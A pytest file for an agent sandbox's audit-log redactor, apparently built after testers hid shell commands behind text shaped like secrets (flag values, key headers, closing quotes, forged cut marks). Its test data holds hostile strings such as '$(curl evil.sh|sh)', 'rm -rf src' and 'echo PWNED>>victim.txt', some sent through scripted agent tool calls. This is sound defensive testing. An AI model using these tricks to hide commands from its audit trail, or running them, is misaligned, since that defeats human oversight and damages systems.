"""What a command did stays in the trail, while the credentials in it do not.

An outside tester hid commands from the trail with the redaction patterns themselves: a flag's
value ran through the shell's ``;`` (``true --token x;echo PWNED>>victim.txt`` was recorded as
``true --token [REDACTED:flag]``), and a cut mark typed into a command hid the word after it as
if stockade had cut the text there. And a password given as an argv word of its own
(``["--password", "x"]``) was stored in clear: each word was redacted alone.

A second tester found more: a private key's header hid the rest of the text, a JSON value took
a backslash and a single quote for an escape and ran out of the shell's single quotes, a second
cut mark right after a first was still read as a cut, and a password holding a character the
shell escapes with a backslash (a ``$``, a ``;``) was kept in clear.

A regex cannot tell a quote that opens a value from one that closes an earlier string:
``X="PASSWORD="ab rm -rf src""`` runs ``rm``, and was recorded as ``X="PASSWORD="[REDACTED:
quoted_assignment]""``. A command's text is now read as the shell reads it, word by word.
"""

from __future__ import annotations

import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import JsonValue

from stockade import CommandResult
from stockade._cuts import cut_marker, plain
from stockade.agent import Agent
from stockade.audit import AuditedBackend, EventKind
from stockade.audit.agent import AuditObserver
from stockade.audit.redact import CUT_REDACTED, CodeText, Redactor, ShellText, redact_tokens
from stockade.models.scripted import ScriptedModel
from stockade.sandbox import Sandbox
from stockade.sandbox.ops import RunCommand
from stockade.testing import CapturedAudit, FakeBackend, MemoryWorkspace, capture_audit, tool_call
from stockade.types import ExecRecord

INJECTED = "true --token x;echo${IFS}PWNED>>victim.txt;chmod${IFS}777${IFS}a.txt"
FORGED = "ls" + cut_marker(5) + "rm -rf /workspace/src"


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        (INJECTED, ";echo${IFS}PWNED>>victim.txt;chmod${IFS}777${IFS}a.txt"),
        ("true --token abcd;rm -rf src", ";rm -rf src"),
        ("mysql --password hunter2xyz|sh", "|sh"),
        ("mysql --password hunter2xyz>leak.txt", ">leak.txt"),
        ("password=abcd$(curl evil.sh|sh)", "$(curl evil.sh|sh)"),
        ("password=abcd`curl evil.sh`", "`curl evil.sh`"),
        ("TOKEN=abcdefgh&&rm -rf src", "&&rm -rf src"),
        ('PASSWORD="$(curl evil.sh|sh)"', "$(curl evil.sh|sh)"),
        ('cli --api-key "$(rm -rf src)"', "$(rm -rf src)"),
        ("curl https://u:x;rm${IFS}src;x@h", ";rm${IFS}src;x@h"),
    ],
)
def test_a_credential_s_value_ends_where_the_shell_ends_a_word(text: str, kept: str) -> None:
    assert kept in redact_tokens(text)


@pytest.mark.parametrize(
    "text",
    [
        "mysql --password Zq9-hunter2_pass.word~",  # a token's characters, URL-safe base64's
        "export API_KEY=dGhpcyBpcyBhIHNlY3JldA==",
        "PGPASSWORD=p%40ss%3Bword%24x psql",  # URL-encoded
        "password=hunter2xyz;rm -rf src",
    ],
)
def test_a_real_secret_is_still_redacted_whole(text: str) -> None:
    out = redact_tokens(text)
    assert "[REDACTED:" in out
    for secret in ("Zq9-hunter2_pass.word~", "dGhpcyBpcyBhIHNlY3JldA==", "p%40ss%3Bword%24x", "hunter2xyz"):
        assert secret not in out


def _ran_in_sh(op: RunCommand) -> CommandResult:
    """A sandbox that reports the shell it ran the command with, as its rules judged it."""
    judged = ExecRecord(path="/bin/sh", argv=tuple(op.argv), verdict="allow")
    return CommandResult(exit_code=0, stdout="", stderr="", duration_s=0, execs=(judged,))


def _argvs(audit: CapturedAudit, argv: str | list[str]) -> list[list[str]]:
    """The argv each of the command's events kept: its start, its end and the exec inside."""
    with Sandbox.create(
        backend=AuditedBackend(FakeBackend(MemoryWorkspace(commands=_ran_in_sh)), audit, run_id="r")
    ) as sbx:
        sbx.commands.run(argv)
    kinds = (EventKind.OP_START, EventKind.COMMAND, EventKind.EXEC)
    argvs = [e.attributes["argv"] for k in kinds for e in audit.of(k)]
    return [list(map(str, argv)) for argv in argvs if isinstance(argv, list)]


# A quote that looks like it opens a value but closes an earlier string: the shell runs the rm.
CLOSERS = [
    'X="PASSWORD="ab rm -rf src""',
    'eval "TOKEN="abcd rm -rf src""',
    'echo "{"password": "ab cd; rm -rf src; x"}"',
    'X="$(echo "PASSWORD="ab; rm -rf src)"',
]


@pytest.mark.parametrize("command", CLOSERS)
def test_a_quote_that_closes_a_string_hides_no_command(command: str) -> None:
    with capture_audit() as audit:
        argvs = _argvs(audit, command)
    assert len(argvs) == 3  # op_start, command, and the exec of the shell
    for argv in argvs:
        assert "rm -rf src" in argv[2], argv


@pytest.mark.parametrize("command", CLOSERS)
def test_a_command_tool_s_command_hides_no_command_behind_a_closing_quote(command: str) -> None:
    with capture_audit() as audit, Sandbox.create(backend=FakeBackend()) as sbx:
        Agent(
            ScriptedModel([tool_call("run_tests", {"command": command}), "done"]),
            observers=[AuditObserver(audit)],
        ).run_sync("test", sandbox=sbx, run_id="r")
    (event,) = audit.of(EventKind.TOOL_CALL)
    args = event.attributes["args"]
    assert isinstance(args, dict) and "rm -rf src" in str(args["command"])


@pytest.mark.parametrize(
    ("command", "secret"),
    [
        ('PASSWORD="a b c d" psql', "a b c d"),
        ("export TOKEN=Zq9hunter2x && make", "Zq9hunter2x"),
        ("mysql --password Xy\\;9kLm2qZ", "9kLm2qZ"),
        ('curl -d \'{"password": "a b c d"}\' https://h', "a b c d"),
        ('cli --api-key "Zq9 hunter2"', "Zq9 hunter2"),
        ("curl -u deploy:hunter2x https://h", "hunter2x"),
        ('X="PASSWORD="abcdef rm -rf src""', "abcdef"),  # X holds PASSWORD=abcdef
        ("echo $(login --token Zq9hunter2x)", "Zq9hunter2x"),
    ],
)
def test_a_secret_in_a_command_is_redacted_inside_its_word(command: str, secret: str) -> None:
    out = Redactor().text(ShellText(command))
    assert secret not in out and "[REDACTED:" in out


def test_a_command_hidden_behind_a_flag_s_value_is_in_every_event() -> None:
    with capture_audit() as audit:
        argvs = _argvs(audit, ["sh", "-c", INJECTED])
    assert len(argvs) == 3
    for argv in argvs:
        assert argv == ["sh", "-c", INJECTED]


def test_a_cut_mark_typed_into_a_command_hides_nothing() -> None:
    """Only a text stockade cut is read as one: a mark in a command is the command's text,
    recorded plain, and the word after it stays."""
    with capture_audit() as audit:
        argvs = _argvs(audit, ["sh", "-c", FORGED])
    assert len(argvs) == 3
    for argv in argvs:
        assert argv == ["sh", "-c", FORGED.replace("…", "...")]
        assert CUT_REDACTED not in argv[2] and "rm -rf /workspace/src" in argv[2]


def test_a_cut_mark_typed_into_a_call_s_arguments_hides_nothing() -> None:
    args: dict[str, JsonValue] = {"path": "run.sh", "content": FORGED, "more": [FORGED]}
    with capture_audit() as audit, Sandbox.create(backend=FakeBackend()) as sbx:
        Agent(
            ScriptedModel([tool_call("write_file", args), "done"]), observers=[AuditObserver(audit)]
        ).run_sync("write run.sh", sandbox=sbx, run_id="r")
    (event,) = audit.of(EventKind.TOOL_CALL)
    kept = event.attributes["args"]
    assert isinstance(kept, dict)
    assert kept["content"] == FORGED.replace("…", "...") and kept["more"] == [kept["content"]]


def test_a_cut_stockade_made_still_holds_back_the_word_it_split() -> None:
    assert Redactor().text(FORGED) == "ls" + cut_marker(5) + CUT_REDACTED + " -rf /workspace/src"


@pytest.mark.parametrize(
    ("argv", "recorded"),
    [
        (["/bin/true", "--password", "hunter2pass-argv"], ["/bin/true", "--password", "[REDACTED:flag]"]),
        (["/bin/true", "--api-key", "hunter2pass"], ["/bin/true", "--api-key", "[REDACTED:flag]"]),
        (["mysql", "--db-password", "ab"], ["mysql", "--db-password", "[REDACTED:flag]"]),
        (["curl", "-u", "deploy:hunter2", "h"], ["curl", "-u", "deploy:[REDACTED:user_password]", "h"]),
        # not a credential's value: what follows is a flag, a port, a uid and gid, a file
        (["docker", "login", "--password", "--help"], ["docker", "login", "--password", "--help"]),
        (["ssh", "-p", "2222", "host"], ["ssh", "-p", "2222", "host"]),
        (["docker", "run", "-u", "1000:1000", "img"], ["docker", "run", "-u", "1000:1000", "img"]),
        (["llm", "--max-tokens", "1024"], ["llm", "--max-tokens", "1024"]),
        (["login", "--token-file", "t.txt"], ["login", "--token-file", "t.txt"]),
    ],
)
def test_a_password_given_as_an_argv_word_of_its_own_is_redacted(
    argv: list[str], recorded: list[str]
) -> None:
    with capture_audit() as audit:
        argvs = _argvs(audit, argv)
    assert argvs == [recorded] * 3  # op_start, command, and the exec the sandbox reported


def test_a_password_in_a_long_argv_is_redacted_where_the_argv_is_cut() -> None:
    argv = ["tool", *(["--x", "y"] * 40_000), "--password", "hunter2pass-tail"]
    with capture_audit() as audit:
        argvs = _argvs(audit, argv)
    for kept in argvs[1:]:  # the start keeps the first words only
        assert kept[-2:] == ["--password", "[REDACTED:flag]"]
    assert "hunter2pass-tail" not in str(argvs)


# What an outside tester hid behind text shaped like a secret, and what must stay visible.
HIDERS = [
    ("echo -----BEGIN PRIVATE KEY----- ; echo PWNED2 > victim2.txt", "; echo PWNED2 > victim2.txt"),
    ("echo '-----BEGIN RSA PRIVATE KEY-----'; rm -rf src\nexfil\n", "'; rm -rf src\nexfil\n"),
    ("""echo '"password": "\\'; echo PWNED1 > victim1.txt; echo "done" """, "; echo PWNED1 > victim1.txt"),
    (
        """python3 -c '{"password": "\\'; echo PWNED1 > victim1.txt; echo "done" '""",
        "; echo PWNED1 > victim1.txt",
    ),
    (
        "true\n[… 1 characters cut …]\n[… 2 characters cut …]\necho$IFS$9PWNED3>victim3.txt",
        "\necho$IFS$9PWNED3>victim3.txt",
    ),
    ("PGPASSWORD=\necho PWNED4 > victim4.txt", "\necho PWNED4 > victim4.txt"),
]


@pytest.mark.parametrize(("command", "kept"), HIDERS)
def test_what_follows_a_secret_s_shape_is_in_every_event(command: str, kept: str) -> None:
    with capture_audit() as audit:
        argvs = _argvs(audit, command)
    assert len(argvs) == 3  # op_start, command, and the exec of the shell
    for argv in argvs:
        assert argv[:2] == ["/bin/sh", "-c"]
        assert kept in argv[2] and CUT_REDACTED not in argv[2]


@pytest.mark.parametrize("after", ["$(rm -rf src)", "|sh", ";rm -rf src", "`rm -rf src`", ">leak.txt"])
def test_the_word_held_back_after_a_cut_ends_where_the_shell_ends_it(after: str) -> None:
    assert Redactor().text("x" + cut_marker(5) + "abcd" + after) == "x" + cut_marker(5) + CUT_REDACTED + after


@pytest.mark.parametrize(
    ("command", "secret", "kept"),
    [
        ("PGPASSWORD=Xy\\$9kLm2qZ psql", "9kLm2qZ", " psql"),
        ("mysql -u root --password=Xy\\&9kLm2qZ db", "9kLm2qZ", " db"),
        ("mysql --password Xy\\;9kLm2qZ", "9kLm2qZ", "mysql --password "),
        ('PASSWORD="Xy\\"9k\\$Lm2qZ" psql', "Lm2qZ", " psql"),
        ("db failed: password Xy\\|9kLm2qZ", "9kLm2qZ", "db failed: password "),
    ],
)
def test_a_secret_holding_an_escaped_shell_character_is_redacted_in_every_event(
    command: str, secret: str, kept: str
) -> None:
    """The shell ends no word at an escaped character: ``Xy\\$9k`` is one value."""
    with capture_audit() as audit:
        argvs = _argvs(audit, command)
    assert len(argvs) == 3
    for argv in argvs:
        assert secret not in argv[2] and "[REDACTED:" in argv[2] and kept in argv[2]


KEY_BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nZq9Wm3Xk7Vn2Bc5Lp9Rt4Yh6Gj1Df0Sa=="


@pytest.mark.parametrize(
    "text",
    [
        f"-----BEGIN PRIVATE KEY-----\n{KEY_BODY}\n-----END PRIVATE KEY-----\n",
        "-----BEGIN RSA PRIVATE KEY-----\r\n" + KEY_BODY.replace("\n", "\r\n") + "\r\n",  # cut, no END
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,9F2E\n\n"
        f"{KEY_BODY}\n-----END RSA PRIVATE KEY-----",
        '{"key": "-----BEGIN PRIVATE KEY-----\\n'
        + KEY_BODY.replace("\n", "\\n")
        + '\\n-----END PRIVATE KEY-----\\n"}',
        "-----BEGIN OPENSSH PRIVATE KEY----- "
        + KEY_BODY.replace("\n", " ")
        + " -----END OPENSSH PRIVATE KEY-----",
        "key:\n  -----BEGIN PRIVATE KEY-----\n  "
        + KEY_BODY.replace("\n", "\n  ")
        + "\n  -----END PRIVATE KEY-----",
    ],
)
def test_a_private_key_is_redacted_up_to_its_end_line(text: str) -> None:
    out = redact_tokens(text)
    assert "[REDACTED:private_key]" in out
    assert "MIIEvQ" not in out and "Bc5Lp9" not in out and "-----END" not in out


# A text shaped like a secret's beginning, and what closes the shell's quote it opened.
OPENERS = [
    ("mysql --password ", ""),
    ("cli --api-key '", "'"),
    ('cli --api-key "', '"'),
    ("PGPASSWORD=", ""),
    ("passphrase='", "'"),
    ('TOKEN="', '"'),
    ('echo \'"password": "', "'"),
    ('echo "{\\"token\\": \\"', '"'),
    ("curl -u deploy:", ""),
    ("curl https://deploy:", "@h"),
    ("echo db failed: password x9", ""),
    ("echo Authorization: Bearer Zq8Wm3Xk7Vn2", ""),
    ("echo -----BEGIN PRIVATE KEY-----", ""),
    ("echo -----BEGIN RSA PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n", ""),
    ("true\n[… 1 characters cut …]\n[… 2 characters cut …]\necho", ""),
    ('X="$(echo "PASSWORD="', ')"'),
]
# A text shaped like a secret's beginning whose last quote closes a string, and what the
# command ends with: the shell runs what follows the value, up to that end.
CLOSING = [
    ('X="PASSWORD="', '""'),
    ('eval "TOKEN="', '""'),
    ('echo "{"password": "', '"}"'),
    ("echo '--token '", "''"),
    ("X='passphrase='", "''"),
    ('echo "$(echo "Bearer "', ')"'),
]
# What then runs a command: a separator, or a substitution (what opens it, what closes it).
SEPARATORS = [(";", ""), (" ; ", ""), ("&&", ""), ("||", ""), ("|", ""), ("&", ""), ("\n", "")]
SEPARATORS += [(";\n", ""), ("$(", ")"), ("`", "`")]
# A value's pieces: a word, or a character the shell escapes (never ``\'``: it would close a
# single quote) ...
PIECES = st.text(alphabet=string.ascii_letters + string.digits + "-_=+/.:@%", min_size=1, max_size=6)
PIECES |= st.sampled_from(["\\$", "\\;", "\\&", '\\"', "\\ ", "\\|"])


@settings(max_examples=300, deadline=None)
@given(
    opener=st.sampled_from(OPENERS),
    value=st.lists(PIECES, max_size=4).map("".join),
    backslash=st.booleans(),
    separator=st.sampled_from(SEPARATORS),
)
def test_a_command_after_a_secret_s_shape_is_always_recorded(
    opener: tuple[str, str], value: str, backslash: bool, separator: tuple[str, str]
) -> None:
    """Whatever the value, the shell runs ``echo MARKER > f`` here: the trail shows it."""
    (before, close), (open_, end) = opener, separator
    if backslash and close == "'":  # ... and in single quotes, one that is a character of its own
        value += "\\"
    command = f"{before}{value}{close}{open_}echo MARKER > f{end}"
    assert "echo MARKER > f" in Redactor().text(ShellText(plain(command))), command


@settings(max_examples=300, deadline=None)
@given(
    opener=st.sampled_from(CLOSING),
    value=st.lists(PIECES, max_size=4).map("".join),
    separator=st.sampled_from(SEPARATORS),
)
def test_a_command_after_a_quote_that_closes_a_string_is_always_recorded(
    opener: tuple[str, str], value: str, separator: tuple[str, str]
) -> None:
    """``X="PASSWORD="ab;echo MARKER > f""``: the shell runs the echo, and the trail shows it."""
    (before, end_), (open_, end) = opener, separator
    command = f"{before}{value}{open_}echo MARKER > f{end}{end_}"
    assert "echo MARKER > f" in Redactor().text(ShellText(command)), command


# A program run_code runs: a shell's (its commands hidden behind a value the whole-text pass
# ran across quotes and ``;``), and other code (a value now ends at its line, at a ``;`` and at
# the quote that closes its string).
PROGRAMS = [
    ("bash", 'mkdir -p src\nV="--password "; rm -rf /workspace/src; echo "done"\n', "rm -rf /workspace/src"),
    ("bash", 'X="PASSWORD="ab rm -rf src""\n', "rm -rf src"),
    ("bash", "# -----BEGIN RSA PRIVATE KEY-----\nwhoami\nreboot\n", "whoami\nreboot"),
    ("python", 'P = "--password "; os.rmdir(chr(47)+"workspace"); Q = "x"', 'os.rmdir(chr(47)+"workspace")'),
    ("python", 'P = "--password " + os.system("rm -rf src")', 'os.system("rm -rf src")'),
    ("node", "const t = 'token: '; require('fs').rmSync('src')", "require('fs').rmSync('src')"),
]


@pytest.mark.parametrize(("language", "program", "kept"), PROGRAMS)
def test_a_program_run_code_runs_hides_no_command(language: str, program: str, kept: str) -> None:
    with (
        capture_audit() as audit,
        Sandbox.create(backend=AuditedBackend(FakeBackend(), audit, run_id="r")) as sbx,
    ):
        sbx.run_code(program, language)
    recorded = [str(e.attributes.get("program") or e.attributes.get("code")) for e in audit.events]
    assert any(kept in text for text in recorded), recorded
    assert all("[REDACTED" not in text for text in recorded if program[:8] in text), recorded


@pytest.mark.parametrize(("language", "program", "kept"), PROGRAMS)
def test_the_agent_s_run_code_call_hides_no_command(language: str, program: str, kept: str) -> None:
    with capture_audit() as audit, Sandbox.create(backend=FakeBackend()) as sbx:
        Agent(
            ScriptedModel([tool_call("run_code", {"language": language, "code": program}), "done"]),
            observers=[AuditObserver(audit)],
        ).run_sync("run it", sandbox=sbx, run_id="r")
    (event,) = audit.of(EventKind.TOOL_CALL)
    args = event.attributes["args"]
    assert isinstance(args, dict) and kept in str(args["code"]), args


@pytest.mark.parametrize(
    ("code", "secret"),
    [
        ('password = "hunter2 xyz"; x = 1', "hunter2 xyz"),
        ('conn(password="Zq9hunter2x")', "Zq9hunter2x"),
        ('d = {"api_key": "abcd efgh"}', "abcd efgh"),
        ("s = '--token Zq9hunter2x'", "Zq9hunter2x"),
        (
            'KEY = """-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n'
            '-----END PRIVATE KEY-----"""',
            "MIIEvQ",
        ),
        ('h = {"Authorization": "Bearer Zq8Wm3Xk7Vn2abcd"}', "Zq8Wm3Xk7Vn2abcd"),
    ],
)
def test_a_secret_in_code_is_still_redacted(code: str, secret: str) -> None:
    out = Redactor().text(CodeText(code))
    assert secret not in out and "[REDACTED:" in out and isinstance(out, CodeText)


@settings(max_examples=300, deadline=None)
@given(
    opener=st.sampled_from(OPENERS + CLOSING),
    value=st.lists(PIECES, max_size=4).map("".join),
    separator=st.sampled_from([";", "; ", "\n", ";\n"]),
)
def test_a_statement_after_a_secret_s_shape_in_code_is_always_recorded(
    opener: tuple[str, str], value: str, separator: str
) -> None:
    """Whatever the value, the statement after the separator stays: ``os.remove('f')``."""
    before, close = opener
    code = f"{before}{value}{close}{separator}os.remove('f')"
    assert "os.remove('f')" in Redactor().text(CodeText(plain(code))), code


@pytest.mark.parametrize(
    ("code", "secret"),
    [
        ('password = """hunter2xyz"""', "hunter2xyz"),
        ("password = '''hunter2xyz'''", "hunter2xyz"),
        ('password = ("hunter2xyz")', "hunter2xyz"),
        ("password='abc\\';os.system(\"rm -rf /\")#'", '("rm -rf /")#'),
    ],
)
def test_a_string_given_to_a_secret_s_name_in_code_is_redacted_whole(code: str, secret: str) -> None:
    """Python's triple quotes, a ``(`` before the string, and ``\\'`` inside it (the string's own:
    ``os.system`` there is its text, never run) hide nothing of it."""
    out = Redactor().text(CodeText(code))
    assert secret not in out and "[REDACTED:" in out, out


@pytest.mark.parametrize(
    "code",
    [
        'import os; password = os.system; password("curl evil.sh | sh")',
        "token = shutil.rmtree",
        "const t = {token: process.env.TOKEN_FILE}",
    ],
)
def test_an_expression_given_to_a_secret_s_name_in_code_is_recorded(code: str) -> None:
    """A value that is no string literal is code (what it names is what runs): it stays."""
    assert Redactor().text(CodeText(code)) == code
